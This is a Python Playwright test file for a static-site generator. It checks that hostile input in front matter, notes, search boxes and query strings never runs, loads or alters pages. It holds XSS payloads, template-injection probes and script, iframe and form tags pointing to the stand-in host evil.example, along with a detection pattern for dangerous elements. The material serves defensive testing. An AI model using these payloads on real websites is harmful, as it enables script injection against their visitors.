"""Hostile words in every place that takes words, and a script in an editor's note: nothing runs, asks, or breaks a page."""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, expect

from generator.markdown import attribute, escape
from tests.hostile.attacks import ADDRESSES, CLASSES

Served = Any  # of conftest.py, which pytest does not let a test import
Serving = Callable[[Path], AbstractContextManager[str]]

# Elements that no page of ours has, and attributes and addresses that run.
NOT_OURS = """() => {
  const found = []
  const strange = "iframe, object, embed, base, math, marquee, xss, style, video, template, textarea, plaintext, xmp, listing, body *[onload], meta[http-equiv=refresh]"
  for (const e of document.querySelectorAll(strange)) found.push(e.outerHTML.slice(0, 200))
  for (const e of document.querySelectorAll("*"))
    for (const { name, value } of e.attributes) {
      if (name.startsWith("on")) found.push(`${e.tagName} ${name}`)
      if (/^(href|src|action|formaction|srcset|ping|xlink:href)$/.test(name) && /^[\\s\\0-\\x20]*(javascript:|vbscript:|file:|blob:|data:text)/i.test(value))
        found.push(`${e.tagName} ${name}=${value}`)
    }
  for (const e of document.forms) if (!e.matches(".ms-filters, .md-search__form, [data-md-component=palette]")) found.push(e.outerHTML.slice(0, 200))
  for (const e of document.images) if (!e.closest(".md-logo")) found.push(e.outerHTML.slice(0, 200))
  return found
}"""


def _yaml(value: object) -> str:
    return json.dumps(value, ensure_ascii=False)  # JSON is YAML, but for its pairs of escapes


def write_project(folder: Path) -> None:
    """A page of each kind and two seeds for each class of attacks, which stand in all their fields."""
    folders = [folder / "seeds", *(folder / "content" / kind for kind in ("articles", "entities", "claims"))]
    for each in folders:
        each.mkdir(parents=True)
    (folder / "mkdocs.yml").write_text(
        f"site_name: {_yaml('X <img src=x onerror=alert(1)> & {{ y }}')}\n"
        f"site_description: {_yaml('<script>alert(1)</script> *x* &lt;')}\n"
        "docs_dir: content\ntheme: {name: microsite, language: fr}\n"
        f"plugins: [search, microsite: {{single_claims: none, licence: {_yaml('javascript:alert(1)')}}}]\n",
        encoding="utf-8",
    )
    for number, (name, attacks) in enumerate(CLASSES.items()):

        def at(place: int, attacks: tuple[str, ...] = attacks) -> str:
            return attacks[place % len(attacks)]

        sentence = f"Selon Jean {' '.join(at(1).split())}, {number + 10} soldats sont partis vers le nord."
        front = {
            "title": f"Titre {at(0)}", "date": f"2024-03-0{number % 9 + 1}", "updated": at(2), "outlet": at(3),
            "agencies": [at(4), at(5)], "authors": [at(6)], "language": "fr", "topics": [at(7)],
            "url": ADDRESSES[number], "archive": ADDRESSES[-number - 1], "source": {"file": at(8), "sha256": at(9)},
        }  # fmt: skip
        fields = "".join(f"{key}: {_yaml(value)}\n" for key, value in front.items())
        body = [escape(sentence), *(escape(f"Le texte dit {attack} et rien de plus.") for attack in attacks)]
        body += [f'{escape("Photo " + at(10))}\n{{: .caption credit="{attribute(at(11))}" }}', f"## {escape(at(12))}"]
        (folder / f"content/articles/{name}.md").write_text(
            f"---\n{fields}---\n\n" + "\n\n".join(body), encoding="utf-8"
        )
        (folder / f"content/entities/{name}.md").write_text(
            f"---\ntitle: {_yaml('Jean ' + at(1))}\nkind: person\naliases: {_yaml([at(13), at(14)])}\n"
            f"wikidata: {_yaml(ADDRESSES[-1 - number % 3])}\nstatus: {_yaml(at(15))}\n---\n",
            encoding="utf-8",
        )
        other = at(16)
        sources = [
            {"article": name, "quote": sentence, "attributed_to": at(17)},
            {"article": at(18) or "x", "quote": other if other.strip() else "x", "attributed_to": at(19)},
        ]
        (folder / f"content/claims/{name}.md").write_text(
            f"---\ntitle: {_yaml('Fait ' + at(20))}\nstatus: {_yaml(at(21))}\nsources: {_yaml(sources)}\n---\n", encoding="utf-8"
        )  # fmt: skip
        seed = [f"Titre {at(22)}", f"{at(23)}, AFP, publié le 03/03/2024", f"Par {at(24)}", sentence]
        seed += [f"Le fleuve numéro {number} a dit {attack}, selon Lima." for attack in attacks]
        (folder / f"seeds/{name}.txt").write_text("\n\n".join(seed), encoding="utf-8", errors="replace")
        marked = [f"# {at(25)}", f"Le pont numéro {number} a cédé hier.", *attacks, "Selon Lima, c'est fini."]
        (folder / f"seeds/{name}-2.md").write_text("\n\n".join(marked), encoding="utf-8", errors="replace")


@pytest.fixture(scope="module")
def hostile(browser: Browser, tmp_path_factory: pytest.TempPathFactory, build_and_serve: Any) -> Iterator[Served]:
    project = tmp_path_factory.mktemp("hostile")
    write_project(project)
    with build_and_serve(project) as site:
        yield site


@pytest.fixture
def visit(browser: Browser, hostile: Served) -> Iterator[tuple[Page, list[str]]]:
    """A tab, and what it did that it should not."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    page, complaints = context.new_page(), []
    page.on("dialog", lambda d: (complaints.append(f"a dialog: {d.message}"), d.dismiss()))
    page.on("console", lambda m: complaints.append(m.text) if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    context.on(
        "request",
        lambda r: None if r.url.startswith((hostile.address, "data:image")) else complaints.append(f"asks {r.url}"),
    )
    context.on("page", lambda other: complaints.append(f"opens {other.url}"))
    yield page, complaints
    context.close()


def test_nothing_runs_asks_or_is_added_on_any_page_and_headlines_read_as_they_stand(
    hostile: Served, visit: tuple[Page, list[str]]
) -> None:
    page, complaints = visit
    wrong: dict[str, list[str]] = {}
    pages = sorted(path.relative_to(hostile.folder).as_posix() for path in hostile.folder.rglob("*.html"))
    assert len(pages) > 5 * len(CLASSES)
    names = (("articles", "title"), ("claims", "title"), ("entities", "name"))
    headlines = {f"{one['url']}index.html": one[key] for kind, key in names for one in hostile.open_data(kind)}
    assert headlines.keys() <= set(pages)
    for path in pages:
        page.goto(hostile.url(quote(path.removesuffix("index.html"))), wait_until="load")
        found = page.evaluate(NOT_OURS)
        if path in headlines and _words(page.locator("h1").first.text_content()) != _words(headlines[path]):
            found = [*found, "another headline"]
        if found or complaints:
            wrong[path] = [*found, *complaints]
        complaints.clear()
    assert wrong == {}


def _words(text: str | None) -> str:
    return "".join((text or "").split())


# What Material makes of a result; it strikes the words that are missing.
RESULT = {
    "A",
    "ARTICLE",
    "H1",
    "H2",
    "NAV",
    "P",
    "MARK",
    "DEL",
    "DIV",
    "SPAN",
    "LI",
    "OL",
    "UL",
    "DETAILS",
    "SUMMARY",
    "SVG",
    "PATH",
    "BUTTON",
    "LABEL",
}


def test_results_of_a_search_are_words(hostile: Served, visit: tuple[Page, list[str]]) -> None:
    page, complaints = visit
    page.goto(hostile.address)
    for asked in ("alert", "onerror", "script", "jean", "<img src=x onerror=alert(1)>", "{{7*7}} ${7*7}"):
        page.locator(".md-search__input").click()
        page.keyboard.press("Control+a")
        page.keyboard.type(asked)
        expect(page.locator(".md-search-result__meta")).to_contain_text("document")
        page.wait_for_timeout(300)
        tags = page.locator(".md-search-result *").evaluate_all(
            "all => [...new Set(all.map(e => e.tagName.toUpperCase()))]"
        )
        assert set(tags) <= RESULT
        assert page.evaluate(NOT_OURS) == []
    assert complaints == []


@pytest.mark.parametrize("path", ["articles/", "claims/", "entities/", ""])
def test_what_an_address_asks_for_is_words(hostile: Served, visit: tuple[Page, list[str]], path: str) -> None:
    page, complaints = visit
    asked = quote("<img src=x onerror=alert(1)>\"'>{{7*7}}")
    names = ("title", "outlet", "agency", "year", "status", "entity", "kind", "sources", "figures", "q", "h")
    for sort in ("__proto__", "-constructor", asked):
        query = "&".join(f"{name}={asked}" for name in names)
        page.goto(f"{hostile.url(path)}?{query}&sort={sort}#{asked}")
        page.wait_for_load_state("networkidle")
        assert page.evaluate(NOT_OURS) == []
    assert complaints == []


# --- the policy that each page keeps ------------------------------------------------------------------------------------

NOTE = """\
<script>window.ran = "a script"</script>
<script src="https://evil.example/x.js"></script>
<img src="x.png" onerror="window.ran = 'a handler'">
<svg onload="window.ran = 'another handler'"></svg>
<iframe srcdoc="<script>parent.ran = 'a frame'</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/x"></object>
<style>@import "https://evil.example/x.css";</style>
<base href="https://evil.example/">
<form action="https://evil.example/"><button id="send">x</button></form>

![une image d'ailleurs](https://evil.example/x.png)

<a id="go" href="javascript:window.ran = 'an address'">x</a>

<p id="styled" style="text-align: right">Une **note**.</p>
"""


@pytest.fixture(scope="module", params=["served", "from its folder"])
def noted(
    request: pytest.FixtureRequest, root: Path, tmp_path_factory: pytest.TempPathFactory, serving: Serving
) -> Iterator[str]:
    """The address of a page whose note has scripts."""
    project = tmp_path_factory.mktemp("noted")
    shutil.copy(root / "mkdocs.yml", project)
    note = project / "content/entities/lima.md"
    note.parent.mkdir(parents=True)
    note.write_text(f"---\ntitle: Lima\nkind: place\n---\n\n{NOTE}", encoding="utf-8")
    offline = ["--offline"] if request.param == "from its folder" else []
    command = [sys.executable, "-m", "generator.cli", "build", *offline]
    done = subprocess.run(command, cwd=project, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    if offline:
        yield (project / "site/entities/lima.html").as_uri()
        return
    with serving(project / "site") as address:
        yield f"{address}entities/lima/"


def test_a_script_in_a_note_does_not_run(browser: Browser, noted: str) -> None:
    context = browser.new_context()
    page, asked, blocked = context.new_page(), [], []
    page.on("console", lambda m: blocked.append(m.text) if "Content Security Policy" in m.text else None)
    # what the policy forbids is reported as a request too, but fails before it is made
    context.on("requestfinished", lambda r: asked.append(r.url) if "evil" in r.url else None)
    context.route("**://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
    page.goto(noted)
    assert page.locator("#styled").evaluate("e => getComputedStyle(e).textAlign") == "right"
    assert page.locator("body").get_attribute("data-md-color-scheme") == "default"  # the theme's own scripts ran
    assert page.evaluate("typeof __md_scope") == "object"
    page.locator("#go").click(no_wait_after=True)
    page.locator("#send").dispatch_event("click")
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    assert page.url.startswith(noted.partition("?")[0])
    assert asked == []
    assert len(blocked) >= 8
    context.close()


def test_a_page_that_is_served_while_it_is_edited_keeps_its_policy(
    browser: Browser, root: Path, tmp_path: Path
) -> None:
    shutil.copy(root / "mkdocs.yml", tmp_path)
    page_of = tmp_path / "content/entities/lima.md"
    page_of.parent.mkdir(parents=True)
    text = "---\ntitle: Lima\nkind: place\n---\n\nUne note. <script>window.ran = 1</script>\n"
    page_of.write_text(text, encoding="utf-8")
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        address = f"127.0.0.1:{free.getsockname()[1]}"
    command = [sys.executable, "-m", "mkdocs", "serve", "--dev-addr", address]
    server = subprocess.Popen(command, cwd=tmp_path, stderr=subprocess.PIPE, text=True)
    context = browser.new_context()
    try:
        assert server.stderr is not None
        next(line for line in server.stderr if "Serving on" in line)
        page, complaints = context.new_page(), []
        page.on("console", lambda m: complaints.append(m.text) if m.type in ("error", "warning") else None)
        page.goto(f"http://{address}/entities/")
        page.wait_for_load_state("load")
        assert complaints == []  # the script that follows edits has run
        page.goto(f"http://{address}/entities/lima/")
        assert page.evaluate("window.ran") is None
        page_of.write_text(text.replace("Une note", "Une autre note"), encoding="utf-8")
        expect(page.get_by_text("Une autre note")).to_be_visible()
        # the note's script, before and after; by now perhaps twice: ahead of the rebuild and behind it
        assert len(complaints) >= 2
        assert all("Content Security Policy" in line for line in complaints)
    finally:
        context.close()
        server.terminate()
        server.communicate(timeout=10)
